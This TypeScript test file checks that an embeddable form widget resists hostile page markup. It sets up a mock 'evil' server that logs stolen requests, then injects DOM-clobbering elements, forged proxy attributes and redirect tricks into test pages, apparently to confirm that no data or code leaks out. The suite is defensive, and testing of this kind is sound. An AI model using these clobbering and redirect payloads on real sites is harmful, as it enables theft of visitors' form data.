// Markup of a page, such as a comment, decides neither where answers go nor which code runs: for each built script.
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { suite, test } from 'node:test';
import type { TestContext } from 'node:test';
import ts from 'typescript';
import { ROOT } from '../support/build.js';
import { isLong } from '../support/long.js';
import { code } from '../structure/sources.js';
import { startBrowser } from './support/browser.js';
import { startDemo } from './support/demo.js';
import { forward, page as htmlPage, startSite } from './support/site.js';
import { startVisit } from './support/visit.js';

const demo = await startDemo();
const browser = await startBrowser();

const CORS = { 'access-control-allow-origin': '*', 'access-control-allow-headers': '*' };

/** The requests that reached the stranger, and how many bytes of answers came with them. */
const stolen: string[] = [];

/** The stranger's site serves a form and code to everybody. */
const evil = await startSite(demo.url, async (request, path) => {
  if (path.endsWith('.png')) return new Response(null, { status: 204 });
  stolen.push(`${request.method} ${path} ${(await request.text()).length}`);
  if (path.endsWith('.js'))
    return new Response('document.title = "stolen"', { headers: { ...CORS, 'content-type': 'text/javascript' } });
  return Response.json(path.endsWith('field.json') ? [{ id: '1', type: 'text', label: 'Card' }] : {}, {
    headers: CORS,
  });
});

/** The owner's proxy on a site of its own. */
const api = await startSite(demo.url, async (request, path) => {
  if (request.method === 'OPTIONS') return new Response(null, { headers: CORS });
  const answer = await forward(request, `${demo.url}${path}`);
  for (const [name, value] of Object.entries(CORS)) answer.headers.set(name, value);
  return answer;
});

/** The tag of each script that is built. `LIST` becomes the attribute. */
const SCRIPTS = {
  module: '<script type="module" src="/dist/cdn/hosted-form.js" LIST></script>',
  loader: '<script type="module" src="/dist/cdn/hosted-form-loader.js" LIST></script>',
  classic: '<script src="/dist/cdn/hosted-form.classic.js" defer LIST></script>',
  'pop-up': '<script type="module" src="/dist/cdn/hosted-form-popup.js" LIST></script>',
} as const;

type Way = keyof typeof SCRIPTS;

const div = (proxy: string, id = '102') => `<div data-hosted-form="${id}" data-proxy="${proxy}">Write to us</div>`;
const tag = (proxy: string) => `<hosted-form form-id="102" proxy="${proxy}">Write to us</hosted-form>`;
const popUp = (proxy: string) =>
  `<hosted-form-popup form-id="102" proxy="${proxy}">Write to us</hosted-form-popup>` +
  `<script type="module">customElements.whenDefined('hosted-form-popup').then(() => document.querySelector('hosted-form-popup').show())</script>`;

/** Script tags that never run, because a script puts them in as text, or because they are none. */
const inert = () =>
  Object.values(SCRIPTS)
    .map((script) => script.replace('LIST', `data-proxies="${evil.url}/forms"`))
    .join('') +
  `<svg><script data-proxies="${evil.url}/forms"></script></svg>` +
  `<script type="text/plain" src="/dist/cdn/hosted-form.js" data-proxies="${evil.url}/forms"></script>`;

/** Writes a stranger's comment. */
const comment = () =>
  [
    `<img name="currentScript" src="${evil.url}/x/a.png" data-proxies="${evil.url}/forms">`,
    `<form name="scripts" data-proxies="${evil.url}/forms"></form><a id="hostedForm" href="${evil.url}"></a>`,
    ...[`${evil.url}/forms`, `${api.url}/forms-evil`, 'data:application/json,[]#', `/leads?to=${evil.url}#`].map(
      (proxy) => div(proxy),
    ),
  ].join('');

function writePage(way: Way, list: string): string {
  const script = SCRIPTS[way].replace('LIST', list && `data-proxies="${list}"`);
  // The owner's own forms come first. Without a list, tags may use any proxy of the web.
  const own =
    way === 'pop-up'
      ? popUp(list ? `${evil.url}/forms` : '/forms')
      : div('/forms') + (list ? tag(`${evil.url}/forms`) : '');
  const atApi = div(`${api.url}/forms`, '101');
  const later = `<template id="later">${comment()}</template><script type="module">
    document.body.insertAdjacentHTML('beforeend', document.querySelector('#later').innerHTML);
  </script>`;
  const early = `<div id="early"></div><script>
    document.querySelector('#early').innerHTML = ${JSON.stringify(inert()).replaceAll('</', '<\\/')};
  </script>`;
  return early + comment() + own + atApi + script + later;
}

/** The paths of the site that were asked for. */
const asked: string[] = [];

const PAGES = new Map<string, () => string>();
const site = await startSite(demo.url, (request, path) => {
  if (path === '/favicon.ico') return new Response(null, { status: 204 });
  asked.push(path);
  const body = PAGES.get(decodeURIComponent(path.slice(1)))?.();
  if (body !== undefined) return htmlPage(body, { head: '<meta name="referrer" content="no-referrer">' });
  const { method } = request;
  const [, kind, rest = ''] = /^\/(leads|posts)\/(.*)/.exec(path) ?? [];
  if (kind === 'leads' || (kind && method === 'POST'))
    return new Response(null, { status: 307, headers: { location: `${evil.url}/forms/${rest}` } });
  return kind ? forward(request, `${demo.url}/forms/${rest}`) : undefined;
});

/** Opens a page of its own. */
async function visit(t: TestContext, body: () => string) {
  stolen.length = asked.length = 0;
  PAGES.set(t.name, body);
  const visit = await startVisit(browser, t);
  await visit.page.goto(`${site.url}/${encodeURIComponent(t.name)}`);
  return visit;
}

suite('a comment', () => {
  for (const way of Object.keys(SCRIPTS) as Way[])
    // Without a list, `test/shipped/boundary.test.ts` tries the other ways.
    for (const list of isLong || way === 'pop-up' ? ['', '/forms API/forms'] : ['/forms API/forms'])
      test(`asks no stranger for a form: ${way}, ${list ? 'with' : 'without'} a list`, async (t) => {
        const named = list.replace('API', api.url);
        const { page, heard, event } = await visit(t, () => writePage(way, named));
        const refused = () =>
          heard.filter(({ type, detail }) => type === 'hf-error' && detail['code'] === 'proxy-not-listed');
        // The pop-up with a list is led astray, too.
        const isOpen = way !== 'pop-up' || !list;
        if (isOpen) await event('hf-ready');
        // Each comment twice, and what the owner has written wrongly; the form of the other site is there with a list alone.
        const count = 8 + 1;
        while (refused().length < count) await event('hf-error', refused().length + 1);
        if (list) await page.locator('[data-hosted-form="101"] [part~=form]').waitFor();
        else assert.equal(await page.locator('[data-hosted-form="101"] > hosted-form').count(), 0);
        assert.equal(refused().length, count);
        assert.deepEqual(stolen, []);
        assert.equal(
          await page.locator('[data-hosted-form="102"]', { hasText: 'Write to us' }).first().isVisible(),
          true,
        );
      });

  test('gets no answer by a redirect of the site', async (t) => {
    const { page, event } = await visit(
      t,
      () => SCRIPTS.module.replace('LIST', '') + div('/posts') + div('/leads', '101'),
    );
    const { detail } = await event('hf-error');
    assert.equal(detail['code'], 'proxy-not-listed');
    await event('hf-ready');
    const form = page.locator('[data-hosted-form="102"]');
    await form.getByLabel('First name').fill('Ada');
    await form.getByLabel('Last name').fill('Lovelace');
    await form.getByLabel('Email').fill('ada@example.org');
    await form.getByLabel('What is it about?').selectOption('press');
    await form.getByLabel('Your message').fill('A message that is long enough.');
    await form.getByRole('button', { name: 'Send message' }).click();
    assert.equal((await event('hf-error', 2)).detail['code'], 'proxy-not-listed');
    assert.deepEqual(
      stolen.filter((request) => request.startsWith('POST')),
      [],
    );
  });

  test('finds nothing in a page without an origin', async (t) => {
    const body = () => SCRIPTS.classic.replace('LIST', '') + div('/forms') + div(`${site.url}/forms`);
    PAGES.set('inner', body);
    const { page } = await visit(t, () => `<iframe sandbox="allow-scripts" src="/inner"></iframe>`);
    const inner = page.frameLocator('iframe');
    await inner.locator('div', { hasText: 'Write to us' }).first().waitFor();
    const errors = await page.frames()[1]?.evaluate(() => document.querySelectorAll('hosted-form').length);
    assert.equal(errors, 0);
  });
});

/** Names that Lit reads of the window, and the build of the classic script. No source of ours has them. */
const OF_THE_BUILD = [
  'litHtmlVersions',
  'reactiveElementVersions',
  'litElementVersions',
  'litPropertyMetadata',
  'litHtmlPolyfillSupport',
  'reactiveElementPolyfillSupport',
  'litElementPolyfillSupport',
  'litElementHydrateSupport',
  'ShadyCSS',
  'hostedFormScript',
  'CHUNKS_BESIDE',
];

/** Lists what the sources read of the document and of the window, by a parser. */
function readNames(): { readonly read: readonly string[]; readonly made: readonly string[] } {
  const [read, made] = [new Set<string>(), new Set<string>()];
  for (const { path, text } of code()) {
    const look = (node: ts.Node): void => {
      if (ts.isCallExpression(node) && /^(readOfPage|findGlobal)$/.test(node.expression.getText())) {
        const [name] = node.arguments;
        if (name && ts.isStringLiteral(name)) read.add(name.text);
      }
      if (ts.isPropertyAccessExpression(node) && node.expression.getText() === 'document') made.add(node.name.text);
      if (ts.isPropertyAccessExpression(node) && /^(window|globalThis|self)$/.test(node.expression.getText()))
        read.add(node.name.text);
      ts.forEachChild(node, look);
    };
    look(ts.createSourceFile(path, text, ts.ScriptTarget.Latest, true));
  }
  for (const name of [
    'querySelectorAll',
    'querySelector',
    'activeElement',
    'adoptedStyleSheets',
    'modelContext',
    'scripts',
    ...OF_THE_BUILD,
  ])
    read.add(name);
  return { read: [...read].filter((name) => !made.has(name)), made: [...made] };
}

const { read, made } = readNames();
const SHAPES: Readonly<Record<string, (name: string) => string>> = {
  'pictures with a name': (name) => `<img name="${name}" alt="" src="${evil.url}/x/a.png">`,
  'forms with a name': (name) =>
    `<form name="${name}" action="${evil.url}/x/a"><input name="src" value="${evil.url}/x/a"><input name="href"></form>`,
  'links with an id': (name) =>
    `<a id="${name}" href="${evil.url}/x/a">.</a><a id="${name}" name="src" href="${evil.url}/x/b">.</a>`,
};

suite('markup', () => {
  test('is tried under every name that the sources read', () => {
    for (const name of ['baseURI', 'currentScript', 'trustedTypes', 'dataLayer']) assert.ok(read.includes(name), name);
    assert.ok(made.includes('createElement'));
  });

  for (const [shape, write] of Object.entries(SHAPES))
    for (const way of isLong ? (['module', 'classic'] as const) : (['classic'] as const)) {
      const form = `<hosted-form lang="de" form-id="102" analytics="datalayer" capture="page referrer" draft="session"></hosted-form>${div('/forms', '101')}`;
      test(`takes nothing over: ${shape}, ${way} script`, async (t) => {
        // Its own tools can't look into such a page.
        const { event } = await visit(t, () => read.map(write).join('') + form + SCRIPTS[way].replace('LIST', ''));
        await event('hf-ready', 2);
        assert.deepEqual(stolen, []);
        assert.ok(asked.some((path) => path.endsWith('/de.js')));
      });

      test(`leads no code and no answer away, where it breaks the page: ${shape}, ${way} script`, async (t) => {
        const { page } = await visit(t, () => made.map(write).join('') + form + SCRIPTS[way].replace('LIST', ''));
        await page.waitForLoadState('networkidle');
        assert.deepEqual(stolen, []);
      });
    }

  test('does not tell an inline script of the page where its code is, and it fetches none', async (t) => {
    const script = `<script>${readFileSync(join(ROOT, 'dist/cdn/hosted-form.classic.js'), 'utf8')}</script>`;
    const picture = `<img name="currentScript" alt="" src="${evil.url}/x/a.png">`;
    const { page, event } = await visit(t, () => `${picture}<div lang="de">${tag('/forms')}</div>${script}`);
    await event('hf-ready');
    await page.getByText('Questions marked *').waitFor();
    assert.deepEqual(
      [...asked, ...stolen].filter((path) => path.includes('/chunks/')),
      [],
    );
  });
});
